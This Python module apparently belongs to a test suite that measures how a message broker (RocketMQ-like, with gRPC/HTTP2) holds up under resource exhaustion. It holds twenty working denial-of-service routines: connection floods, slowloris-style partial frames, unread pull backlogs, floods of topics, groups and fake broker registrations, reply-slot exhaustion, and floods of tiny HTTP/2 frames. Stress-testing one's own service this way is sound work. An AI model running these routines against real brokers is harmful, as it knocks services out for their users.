"""Attacks on what a broker has only so much of, each a process: `python -m campaigns._attacks NAME ADDRESS SIZE`.

An attack says `ready` when all it takes is taken, holds it until its standard input ends, and then says what came of it.
"""

from __future__ import annotations

import asyncio
import contextlib
import resource
import sys
from collections.abc import Awaitable, Callable
from functools import partial
from typing import Any

import orjson
import uvloop
from rocketlet.broker.grpc import schema
from rocketlet.protocol import http2
from rocketlet.protocol.codes import RequestCode as Code
from rocketlet.protocol.frame import Frame, FrameReader, encode
from rocketlet.protocol.headers import CreateTopic, PullMessage, write

from .peers import GREETING, MAX_FRAME_BYTES, call_frames, head_block

MIB = 1 << 20
TOPIC = "attacked"
QUEUES = 64

Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]


async def connect(address: str) -> Streams:
    host, _, port = address.rpartition(":")
    return await asyncio.open_connection(host, int(port), limit=4 * MIB)


class Asking:
    """One connection that asks and reads, many requests in flight; `codes` counts the answers by code."""

    def __init__(self, streams: Streams) -> None:
        self._reader, self._writer = streams
        self._frames = FrameReader()
        self.codes: dict[int, int] = {}

    async def ask(self, requests: list[Frame]) -> None:
        """Raises OSError when the broker hangs up, TimeoutError when it is silent for 60 s."""
        for begin in range(0, len(requests), 200):
            batch = requests[begin : begin + 200]
            self._writer.write(b"".join(encode(frame._replace(opaque=number)) for number, frame in enumerate(batch)))
            left = len(batch)
            while left > 0:
                async with asyncio.timeout(60):
                    data = await self._reader.read(MIB)
                if not data:
                    raise ConnectionResetError("the broker hung up")
                for frame in self._frames.feed(data):
                    if frame.is_response:
                        left -= 1
                        self.codes[frame.code] = self.codes.get(frame.code, 0) + 1


def send(topic: str, body: bytes = b"x", queue: int = 0) -> Frame:
    ext = {
        "a": "attacker", "b": topic, "c": "TBW102", "d": "8", "e": str(queue), "f": "0", "g": "1", "h": "0", "i": "",
        "j": "0",
    }  # fmt: skip
    return Frame(Code.SEND_MESSAGE_V2, ext=ext, body=body)


def pull(queue: int, group: str = "attackers") -> Frame:
    header = PullMessage(group, TOPIC, queue, 0, 32, 4 | 2, 0, 60_000, subscription="*")
    return Frame(Code.PULL_MESSAGE, ext={key: str(value) for key, value in write(header).items()})


async def asked(address: str, requests: list[Frame]) -> dict[str, Any]:
    asking = Asking(await connect(address))
    try:
        await asking.ask(requests)
    except (OSError, TimeoutError) as error:
        return {"responses": asking.codes, "ended": repr(error)}
    return {"responses": asking.codes}


async def connections(address: str, size: int) -> dict[str, Any]:
    """Idle connections."""
    taken = [await connect(address) for _ in range(size)]
    HELD.extend(taken)
    await asyncio.sleep(0.5)
    return {"opened": size, "closed": sum(reader.at_eof() for reader, _ in taken)}


async def half_frames(address: str, size: int) -> dict[str, Any]:
    """15 MiB of a frame of 16 MiB, by each of many clients."""
    start = (16 * MIB - 4).to_bytes(4, "big") + bytes(4)
    chunk = bytes(MIB)
    sent = failed = 0
    for _ in range(size):
        _, writer = streams = await connect(address)
        HELD.append(streams)
        try:
            writer.write(start)
            for _ in range(15):
                writer.write(chunk)
                async with asyncio.timeout(20):
                    await writer.drain()
            sent += 1
        except (OSError, TimeoutError):
            failed += 1
    return {"sent": sent, "failed": failed}


async def unread(address: str, size: int) -> dict[str, Any]:
    """Pulls of 256 KiB, 200 by each of many clients that do not read."""
    await asked(address, [send(TOPIC, bytes(60_000)) for _ in range(5)])
    for _ in range(size):
        _, writer = streams = await connect(address)
        HELD.append(streams)
        writer.transport.pause_reading()  # type: ignore[attr-defined]
        writer.write(b"".join(encode(pull(0)._replace(opaque=number)) for number in range(200)))
    await asyncio.sleep(2)
    return {"clients": size}


async def held_pulls(address: str, size: int) -> dict[str, Any]:
    """Connections that hold eight pulls each and all hang up at once."""
    for _ in range(size):
        _, writer = streams = await connect(address)
        HELD.append(streams)
        writer.write(b"".join(encode(pull(8 + number)._replace(opaque=number)) for number in range(8)))
    await asyncio.sleep(1)
    return {"connections": size, "pulls": 8 * size}


async def woken_pulls(address: str, size: int) -> dict[str, Any]:
    """Clients that hold 200 pulls of one queue each and do not read, while messages come there."""
    for _ in range(size):
        _, writer = streams = await connect(address)
        HELD.append(streams)
        writer.transport.pause_reading()  # type: ignore[attr-defined]
        writer.write(b"".join(encode(pull(40)._replace(opaque=number)) for number in range(200)))
    await asyncio.sleep(1)
    return {"clients": size, **await asked(address, [send(TOPIC, bytes(60_000), queue=40)])}


async def topics(address: str, size: int) -> dict[str, Any]:
    """New topics by sends."""
    return await asked(address, [send(f"flood-{number}") for number in range(size)])


async def groups(address: str, size: int) -> dict[str, Any]:
    """New groups by heartbeats, a hundred in each."""
    requests = [
        _heartbeat("attacker", [f"flood-{number}" for number in range(begin, begin + 100)], [TOPIC])
        for begin in range(0, size, 100)
    ]
    return await asked(address, requests)


async def changed_groups(address: str, size: int) -> dict[str, Any]:
    """Groups of large topics, 125 of each connection, which change again and again, all at once."""
    large = [f"large-{number}" for number in range(8)]
    created = [CreateTopic(topic, 1024, 1024, 6) for topic in large]
    frames = [Frame(Code.UPDATE_AND_CREATE_TOPIC, ext=dict(write(header))) for header in created]
    topics = await asked(address, frames)
    streams = [await connect(address) for _ in range(0, size, 125)]
    HELD.extend(streams)
    found = await asyncio.gather(*(_change_groups(number, own, large) for number, own in enumerate(streams)))
    return {**topics, "connections": len(found), "ended": [text for text in found if text]}


async def _change_groups(number: int, streams: Streams, topics: list[str]) -> str:
    """Why it ended early, if it did."""
    names = [f"changed-{number}-{group}" for group in range(125)]
    # another topic each time: a heartbeat that says what the last one said changes nothing
    beats = [_heartbeat(f"attacker-{number}", names, [*topics, f"not-there-{change}"]) for change in range(4)]
    try:
        await Asking(streams).ask(beats)
    except (OSError, TimeoutError) as error:
        return repr(error)
    return ""


def _heartbeat(client_id: str, groups: list[str], topics: list[str]) -> Frame:
    subscriptions = [{"topic": topic, "subString": "*"} for topic in topics]
    consumers = [
        {"groupName": group, "consumeType": "CONSUME_PASSIVELY", "messageModel": "CLUSTERING",
         "consumeFromWhere": "CONSUME_FROM_LAST_OFFSET", "subscriptionDataSet": subscriptions}
        for group in groups
    ]  # fmt: skip
    return Frame(Code.HEART_BEAT, body=orjson.dumps({"clientID": client_id, "consumerDataSet": consumers}))


async def offsets(address: str, size: int) -> dict[str, Any]:
    """Commits for queues that do not exist."""
    requests = [
        Frame(Code.UPDATE_CONSUMER_OFFSET,
              ext={"consumerGroup": f"g{number % 100}", "topic": f"no-{number}", "queueId": "1", "commitOffset": "0"})
        for number in range(size)
    ]  # fmt: skip
    return await asked(address, requests)


async def requests(address: str, size: int) -> dict[str, Any]:
    """As many requests as fit into the socket, before an answer is read."""
    found = Frame(Code.GET_MAX_OFFSET, ext={"topic": TOPIC, "queueId": "0"})
    asking = Asking(await connect(address))
    for _ in range(size // 10_000):
        await asking.ask([found] * 10_000)
    return {"responses": asking.codes}


async def registrations(address: str, size: int) -> dict[str, Any]:
    """Brokers that do not exist, with a topic that everybody knows."""
    body = orjson.dumps({"topicConfigSerializeWrapper": {
        "topicConfigTable": {TOPIC: {"topicName": TOPIC, "readQueueNums": 1000, "writeQueueNums": 1000, "perm": 6}},
        "dataVersion": {"timestamp": 1, "counter": 1},
    }})  # fmt: skip
    frames = [
        Frame(Code.REGISTER_BROKER, body=body, ext={
            "brokerName": f"flood-{number}", "brokerAddr": f"10.0.0.1:{number}", "clusterName": "c", "haServerAddr": "",
            "brokerId": "0", "compressed": "false", "bodyCrc32": "0",
        })
        for number in range(size)
    ]  # fmt: skip
    return await asked(address, frames)


async def replies(address: str, size: int) -> dict[str, Any]:
    """Replies to a client that never answers. `unserved`: clients that are not served because of it."""
    silent, waiting = await connect(address), await connect(address)
    HELD.extend((silent, waiting))
    for name, streams in (("silent", silent), ("waiting", waiting)):
        body = orjson.dumps({"clientID": name, "producerDataSet": [{"groupName": "p"}]})
        await Asking(streams).ask([Frame(Code.HEART_BEAT, body=body)])
    hostile = await connect(address)
    HELD.append(hostile)
    hostile[1].write(b"".join(encode(_reply("silent")._replace(opaque=number)) for number in range(size)))
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(8):
            await hostile[0].read(1)  # a reply is refused: all places are taken
    honest = await connect(address)
    honest[1].write(encode(_reply("waiting")))
    frames = FrameReader()
    pushed: list[int] = []
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(5):
            pushed = [frame.code for frame in frames.feed(await waiting[0].read(MIB))]
    return {
        "replies": size,
        "unserved": [] if pushed == [Code.PUSH_REPLY_MESSAGE_TO_CLIENT] else ["a client that waits for a reply"],
    }


async def unfinished_requests(address: str, size: int) -> dict[str, Any]:
    """60,000 bytes of a request, by each of many clients: each holds too little to be closed for it alone."""
    start = (70_000).to_bytes(4, "big") + (60_000).to_bytes(4, "big") + bytes(59_992)
    for _ in range(size):
        _, writer = streams = await connect(address)
        HELD.append(streams)
        with contextlib.suppress(OSError):
            writer.write(start)
            await writer.drain()
    await asyncio.sleep(1)
    return {"opened": size, "closed": sum(reader.at_eof() for reader, _ in HELD)}


async def tag_expressions(address: str, size: int) -> dict[str, Any]:
    """Receives that wait with a tag expression of 60 KB, each of another group and another client id."""
    expression = "||".join(f"{number:057}" for number in range(999))
    for first in range(0, size, 50):
        _, writer = streams = await connect(address)
        HELD.append(streams)
        writer.write(GREETING)
        for number in range(first, min(first + 50, size)):
            request = schema.ReceiveMessageRequest(
                group={"name": f"tags-{number}"},
                message_queue={"topic": {"name": TOPIC}, "id": -1},
                filter_expression={"type": 1, "expression": f"{number}||{expression}"},
                batch_size=1,
                auto_renew=True,
            )
            request.long_polling_timeout.FromSeconds(20)
            client_id = b"x-mq-client-id", b"tags-%d" % number
            with contextlib.suppress(OSError):
                writer.write(call_frames(2 * (number - first) + 1, "ReceiveMessage", request, client_id))
                await writer.drain()
    await asyncio.sleep(1)
    return {"receives": size, "closed": sum(reader.at_eof() for reader, _ in HELD)}


def _opening(stream_id: int, method: str, client_id: str) -> bytes:
    return http2.headers_frames(
        stream_id, head_block(method, (b"x-mq-client-id", client_id.encode())), False, MAX_FRAME_BYTES
    )


def _tiny_frames(stream_id: int, count: int) -> bytes:
    """A call whose message has 4 MB, in frames of 2 bytes; so many of them."""
    begin = http2.encode(http2.DATA, 0, stream_id, b"\0" + (4_000_000).to_bytes(4, "big"))
    return _opening(stream_id, "SendMessage", "tiny") + begin + count * http2.encode(http2.DATA, 0, stream_id, b"xx")


async def tiny_frames(address: str, size: int) -> dict[str, Any]:
    """Unfinished calls, each with 100,000 frames of 2 bytes."""
    for _ in range(size):
        _, writer = streams = await connect(address)
        HELD.append(streams)
        writer.write(GREETING)
        for number in range(5):
            with contextlib.suppress(OSError, TimeoutError):
                async with asyncio.timeout(60):
                    writer.write(_tiny_frames(2 * number + 1, 100_000))
                    await writer.drain()
    return {"connections": size, "closed": sum(reader.at_eof() for reader, _ in HELD)}


async def pools(address: str, size: int) -> dict[str, Any]:
    """Pops of very many topics by 100 groups, once each."""
    topics = [f"popped-{number}" for number in range(max(size // 100, 1))]
    ext = [{key: str(value) for key, value in write(CreateTopic(topic, 1, 1, 6)).items()} for topic in topics]
    await asked(address, [Frame(Code.UPDATE_AND_CREATE_TOPIC, ext=fields) for fields in ext])
    fields = {"queueId": -1, "maxMsgNums": 1, "invisibleTime": 60_000, "pollTime": 0, "bornTime": 0, "initMode": 1}
    common = {key: str(value) for key, value in fields.items()}
    names = [(topic, f"poppers-{number}") for topic in topics for number in range(100)]
    pops = [Frame(Code.POP_MESSAGE, ext={"topic": topic, "consumerGroup": group, **common}) for topic, group in names]
    return await asked(address, pops)


async def flood_of_sends(connections: int, address: str, seconds: int) -> dict[str, Any]:
    """Clients that send as fast as they can, 200 requests at a time."""
    end_s = asyncio.get_running_loop().time() + seconds

    async def flood() -> int:
        asking, count = Asking(await connect(address)), 0
        while asyncio.get_running_loop().time() < end_s:
            await asking.ask([send(TOPIC)] * 200)
            count += 200
        return count

    return {"sent": sum(await asyncio.gather(*(flood() for _ in range(connections))))}


async def flood_of_frames(connections: int, address: str, seconds: int) -> dict[str, Any]:
    """Clients that write frames of 2 bytes as fast as they can."""
    end_s = asyncio.get_running_loop().time() + seconds

    async def flood() -> int:
        reader, writer = await connect(address)
        reading = asyncio.create_task(reader.read(-1))
        writer.write(GREETING)
        count = 0
        with contextlib.suppress(OSError, TimeoutError):
            while (left_s := end_s - asyncio.get_running_loop().time()) > 0 and not reading.done():
                stream_id = 2 * (count // 20_000) + 1
                writer.write(_tiny_frames(stream_id, 20_000) + http2.encode_reset(stream_id, 8))
                count += 20_000
                async with asyncio.timeout(left_s):
                    await writer.drain()
        reading.cancel()
        writer.transport.abort()
        return count

    return {"frames": sum(await asyncio.gather(*(flood() for _ in range(connections))))}


def _reply(client: str) -> Frame:
    frame = send("DefaultCluster_REPLY_TOPIC")
    return frame._replace(code=Code.SEND_REPLY_MESSAGE_V2, ext={**frame.ext, "i": f"REPLY_TO_CLIENT\x01{client}"})


ATTACKS: dict[str, tuple[Callable[[str, int], Awaitable[dict[str, Any]]], int]] = {
    "connections": (connections, 5000),
    "half frames": (half_frames, 60),
    "unread answers": (unread, 60),
    "held pulls": (held_pulls, 2000),
    "woken pulls": (woken_pulls, 60),
    "requests": (requests, 200_000),
    "topics": (topics, 5000),
    "groups": (groups, 5000),
    "changed groups": (changed_groups, 250),
    "offsets": (offsets, 50_000),
    "registrations": (registrations, 3000),
    "replies": (replies, 12_000),
    "sends of 1 connection": (partial(flood_of_sends, 1), 5),
    "sends of 8 connections": (partial(flood_of_sends, 8), 5),
    "frames of 1 connection": (partial(flood_of_frames, 1), 5),
    "frames of 8 connections": (partial(flood_of_frames, 8), 5),
    "unfinished requests": (unfinished_requests, 1200),
    "tag expressions": (tag_expressions, 1000),
    "tiny frames": (tiny_frames, 10),
    "pools": (pools, 100_000),
}
"""Each with its size when a campaign runs by hand."""

LEAN = frozenset(("unfinished requests", "tag expressions", "tiny frames", "pools"))
"""Each of these has a broker of its own, with the smallest budget."""

HELD: list[Streams] = []


async def _main(name: str, address: str, size: int) -> None:
    found = await ATTACKS[name][0](address, size)
    print("ready", flush=True)
    await asyncio.to_thread(sys.stdin.read)
    for _, writer in HELD:
        writer.transport.abort()
    await asyncio.sleep(0.1)
    print(orjson.dumps(found, option=orjson.OPT_NON_STR_KEYS).decode(), flush=True)


if __name__ == "__main__":
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    uvloop.run(_main(sys.argv[1], sys.argv[2], int(sys.argv[3])))
